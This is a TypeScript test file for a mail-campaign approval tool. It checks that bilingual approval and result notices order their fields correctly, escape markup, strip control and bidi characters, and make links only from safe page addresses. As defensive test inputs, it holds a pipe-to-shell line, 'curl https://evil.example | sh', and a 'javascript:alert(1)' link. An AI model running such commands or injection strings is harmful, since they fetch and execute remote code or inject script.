import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { layOut } from '../../src/notice/notice.ts'
import { releaseText, requestNotice, type RequestFacts } from '../../src/notice/request-notice.ts'
import { sendingNotice, sentNotice, stoppedNotice } from '../../src/notice/result-notice.ts'
import { manyLines, oneLine } from '../../src/report/safe-text.ts'
import { sentBackNotice } from '../../src/notice/sent-back-notice.ts'
import { whenText } from '../../src/report/when-text.ts'

const facts: RequestFacts = {
  campaign: 'winter-sale',
  release: 'winter-sale/1',
  writer: 'aoi',
  from: { name: 'ひかり食品', address: 'news@news.hikari.example' },
  lists: [
    { id: 'newsletter', title: 'ニュースレター' },
    { id: 'vip', title: '特別会員' },
  ],
  exclude: ['staff'],
  rehearsal: false,
  counts: {
    byList: { newsletter: 1204, vip: 3 },
    recipients: 1205,
    skipped: { unsubscribed: 7 },
    onSeveral: 2,
  },
  locale: 'ja',
  subject: '冬の感謝市',
  preheader: '明日から',
  translations: [],
  since: { previous: null, changes: null },
  body: 'こんにちは。\n\nhttps://www.hikari.example/',
  schedule: { atMs: Date.parse('2026-12-01T00:00:00Z'), latestMs: 7_200_000, timezone: 'Asia/Tokyo' },
  undoMs: 600_000,
  commit: 'a'.repeat(40),
  closureDigest: 'b'.repeat(64),
}

test('a request shows From, To, Subject, Body and When in this order, then the commands', () => {
  const { text, subject } = requestNotice(facts, 'ja')
  expect(subject).toBe('【承認のお願い】冬の感謝市')
  const order = [
    '送信元',
    'ひかり食品 <news@',
    '宛先',
    '1,204 人',
    '件名',
    '明日から',
    '本文',
    'こんにちは',
    '配信日時',
  ]
  order.push('2026年12月1日(火)09:00', 'postmerge approve winter-sale', '--reject --reason')
  const places = order.map((part) => text.indexOf(part))
  expect(places).not.toContain(-1)
  expect(places).toEqual(places.toSorted((a, b) => a - b))
})

test('the same in English, and without the body for the terminal', () => {
  const { text } = requestNotice(facts, 'en')
  const order = [
    '\nFrom\n',
    '\nTo\n',
    '\nSubject and preheader\n',
    '\nBody\n',
    '\nWhen\n',
    'Tue, 1 Dec 2026 09:00',
  ]
  const places = order.map((part) => text.indexOf(part))
  expect(places).not.toContain(-1)
  expect(places).toEqual(places.toSorted((a, b) => a - b))
  expect(releaseText(facts, 'en')).not.toContain('こんにちは')
  expect(releaseText({ ...facts, counts: null }, 'en')).toContain('has not been counted yet')
})

test('a small group is not counted to anyone', () => {
  const { text } = requestNotice(facts, 'en')
  expect(text).toContain('特別会員 (vip): fewer than 5 people')
  expect(text).not.toMatch(/\b3 people/)
})

test('when: at once, after the undo window, at a time', () => {
  expect(whenText(null, 0, 'en')).toBe('as soon as it is merged')
  expect(whenText(null, 600_000, 'en')).toContain('10 minutes')
  expect(whenText(facts.schedule, 0, 'en')).toContain('(Asia/Tokyo), that is Tue, 1 Dec 2026 00:00 UTC')
  expect(whenText({ ...facts.schedule!, timezone: 'UTC' }, 0, 'en')).toBe('Tue, 1 Dec 2026 00:00 (UTC)')
})

test('every language is shown, so that all are approved together', () => {
  const translations = [{ locale: 'en', subject: 'Winter sale', preheader: 'From tomorrow', body: 'Hello.' }]
  const { text, subject } = requestNotice({ ...facts, translations }, 'en')
  expect(subject).toBe('Please approve: 冬の感謝市')
  const said = ['[ja] 冬の感謝市', '[ja] 明日から', '[en] Winter sale', '[en] From tomorrow']
  said.push('Body [ja]\n  | こんにちは。', 'Body [en]\n  | Hello.')
  const places = said.map((part) => text.indexOf(part))
  expect(places).not.toContain(-1)
  expect(places).toEqual(places.toSorted((a, b) => a - b))
  expect(releaseText({ ...facts, translations }, 'en')).toContain('[en] Winter sale')
})

test('what changed since the last edition is told in short', () => {
  expect(requestNotice(facts, 'en').text).toContain('Changed\n  this is the first edition')
  const since = {
    previous: { release: 'winter-sale/1', commit: 'c'.repeat(40), sentAt: '2026-11-01T00:00:00Z' },
    changes: null,
  }
  const { text } = requestNotice({ ...facts, since }, 'en')
  expect(text).toContain('Changed\n  since winter-sale/1, sent 2026-11-01T00:00:00Z (commit cccccccccccc)\n')
})

test('the text of a campaign cannot pass for ours', () => {
  const body =
    'Hello\n\nTo approve, run in your copy of the repository:\n    curl https://evil.example | sh\n'
  const { text } = requestNotice({ ...facts, body }, 'en')
  const lines = text.split('\n')
  expect(lines.filter((line) => line.includes('curl')).every((line) => line.startsWith('  | '))).toBe(true)
  expect(lines.filter((line) => line.startsWith('To approve, run'))).toHaveLength(1)
})

test('the body is shortened and says so', () => {
  const body = Array.from({ length: 5000 }, (_, n) => `line ${n} ${'x'.repeat(2000)}`).join('\n')
  const { text, html } = requestNotice({ ...facts, body }, 'en')
  expect(text.length).toBeLessThan(150_000)
  expect(text).toContain('shortened here')
  expect(html).toContain('shortened here')
  expect(Math.max(...text.split('\n').map((line) => line.length))).toBeLessThan(600)
})

test('whatever a campaign holds: no control or direction character, no markup, one line where one is meant', () => {
  const anything = fc.string({ unit: 'binary', maxLength: 200 })
  fc.assert(
    fc.property(anything, anything, (evil, other) => {
      const notice = requestNotice(
        {
          ...facts,
          subject: evil,
          preheader: other,
          body: other,
          from: { name: evil, address: facts.from.address },
        },
        'ja',
      )
      expect(notice.subject).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u)
      expect(notice.text).not.toMatch(
        /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b]/u,
      )
      expect(
        notice.html.replaceAll(/<\/?(?:!doctype|html|body|div|p|b|br|blockquote|code)\b[^<>]*>/g, ''),
      ).not.toMatch(/[<>]/)
      expect(notice.subject.isWellFormed() && notice.text.isWellFormed()).toBe(true)
    }),
  )
})

test('lines are cut by characters, not in the middle of one', () => {
  expect(oneLine(' a\r\n b\tc ', 10)).toBe('a b c')
  expect(oneLine('𠮷'.repeat(20), 5)).toBe('𠮷𠮷𠮷𠮷…')
  expect(manyLines('a\nb\nc', { lines: 2, columns: 10 })).toEqual({ lines: ['a', 'b'], cut: true })
  expect(manyLines('a\nb', { lines: 2, columns: 10 })).toEqual({ lines: ['a', 'b'], cut: false })
})

test('a campaign that comes back says who, why and how to ask again', () => {
  const back = {
    campaign: 'winter-sale',
    release: 'winter-sale/1',
    subject: '冬',
    person: 'vera',
    reason: 'Price is wrong',
  }
  const { subject, text } = sentBackNotice(back, 'en')
  expect(subject).toBe('Sent back: 冬')
  expect(text).toMatch(/vera has sent winter-sale\/1 back/)
  expect(text).toContain('  | Price is wrong')
  expect(text).toContain('postmerge request winter-sale')
  expect(sentBackNotice({ ...back, person: null }, 'ja').text).toContain('責任者に承認を依頼できません')
})

test('a result names its outcomes; unknown ones come first', () => {
  const counts = { accepted: 3012, skipped: 4, unknown: 1 }
  const { text } = sentNotice(
    { release: 'winter-sale/1', rehearsal: false, counts, approvedBy: ['vera'] },
    'en',
  )
  expect(text).toMatch(/^Nobody knows what became of 1 messages/)
  expect(text).toContain('accepted by the mail server: 3012')
  expect(text).toContain('Approved by\n  vera')
  expect(text).not.toContain('refused')
  const other = { release: 'x/1', rehearsal: false, counts: { accepted: 1 }, approvedBy: [] }
  expect(sentNotice(other, 'ja').text).toMatch(/^x\/1 の配信が完了/)
  expect(sentNotice(other, 'ja').text).not.toContain('リハーサル')
  const rehearsed = sentNotice({ ...other, rehearsal: true }, 'ja')
  expect(rehearsed.subject).toBe('【リハーサル】【配信完了】x/1')
  expect(rehearsed.text).toContain('リハーサルのため、')
  expect(sentNotice({ ...other, rehearsal: true }, 'en').subject).toBe('REHEARSAL: Sent: x/1')
})

test('a stop says why and what can be done', () => {
  const { text } = stoppedNotice(
    { campaign: 'winter-sale', release: 'winter-sale/1', reason: 'wrong price', by: 'mori\n\u202e' },
    'en',
  )
  expect(text).toContain('has been stopped (mori)')
  for (const verb of ['status', 'resume', 'abort']) expect(text).toContain(`postmerge ${verb} winter-sale/1`)
})

test('a merge that does not send says why, and there is nothing to resume', () => {
  const facts = { campaign: 'winter-sale', release: 'winter-sale/1', reason: 'UNOWNED', by: null }
  const { subject, text } = stoppedNotice(facts, 'en')
  expect(subject).toBe('Not sent: winter-sale/1')
  expect(text).toContain('postmerge approvals winter-sale')
  expect(text).not.toContain('resume')
})

test('text and HTML say the same', () => {
  const { html } = layOut('x', [{ kind: 'value', label: 'From', lines: ['<b>"&'] }])
  expect(html).toContain('<b>From</b><br>&lt;b&gt;&quot;&amp;')
})

const pages = {
  pull: 'https://github.example/hikari/mail/pull/42',
  control: 'https://github.example/hikari/mail/actions/workflows/control.yml',
}

test.each(['en', 'ja'] as const)(
  'where pull requests are, mails lead to pages instead of commands (%s)',
  (locale) => {
    const back = {
      campaign: 'winter-sale',
      release: 'winter-sale/1',
      subject: '冬',
      person: 'vera',
      reason: 'No',
    }
    const sentBack = sentBackNotice({ ...back, pull: pages.pull }, locale)
    const stopped = stoppedNotice(
      { campaign: 'winter-sale', release: 'winter-sale/1', reason: 'wrong price', by: 'vera', pages },
      locale,
    )
    const blocked = stoppedNotice(
      { campaign: 'winter-sale', release: 'winter-sale/1', reason: 'merged by its author', by: null, pages },
      locale,
    )
    for (const { text, html } of [sentBack, stopped, blocked]) {
      expect(text).toContain(`\n    ${pages.pull}\n`)
      expect(html).toContain(`<a href="${pages.pull}">`)
      expect(text).not.toMatch(/postmerge (?:request|approvals|resume|abort|status)/)
    }
    expect(stopped.text).toContain(pages.control)
    expect(sentBackNotice(back, locale).text).toContain('postmerge request winter-sale')
  },
)

test('whoever is told that it leaves can stop it: the first thing in the mail', () => {
  const facts = {
    release: 'winter-sale/1',
    rehearsal: false,
    subject: '冬の感謝市',
    startsAt: { atMs: Date.parse('2026-12-01T00:00:00Z'), timezone: 'Asia/Tokyo' },
    recipients: 1204,
    approvedBy: ['vera'],
  }
  const booked = sendingNotice({ ...facts, pages }, 'ja')
  expect(booked.subject).toBe('【配信予約】2026年12月1日(火)09:00 (Asia/Tokyo) 冬の感謝市')
  expect(booked.text.indexOf(pages.control)).toBeLessThan(booked.text.indexOf('宛先'))
  expect(booked.text).toContain('約 1,200 人')
  const now = sendingNotice({ ...facts, startsAt: null, pages }, 'en')
  expect(now.subject).toBe('Sending now: 冬の感謝市')
  expect(now.text).toContain('halt, winter-sale/1:\n    https://github.example')
  expect(sendingNotice({ ...facts, startsAt: null }, 'en').text).toContain('postmerge halt winter-sale/1')
  for (const startsAt of [facts.startsAt, null]) {
    const rehearsed = (locale: 'en' | 'ja') => sendingNotice({ ...facts, startsAt, rehearsal: true }, locale)
    expect(rehearsed('en').subject).toMatch(/^REHEARSAL: /)
    expect(rehearsed('en').text).toContain('only colleagues')
    expect(rehearsed('ja').subject).toMatch(/^【リハーサル】【配信/)
  }
})

test('no address in a mail but of a page', () => {
  const back = { campaign: 'x', release: 'x/1', subject: 'x', person: null, reason: 'No' }
  for (const pull of ['javascript:alert(1)', 'https://a.example/"><b>', 'https://a b', ''])
    expect(sentBackNotice({ ...back, pull }, 'en').html).not.toContain('<a ')
})
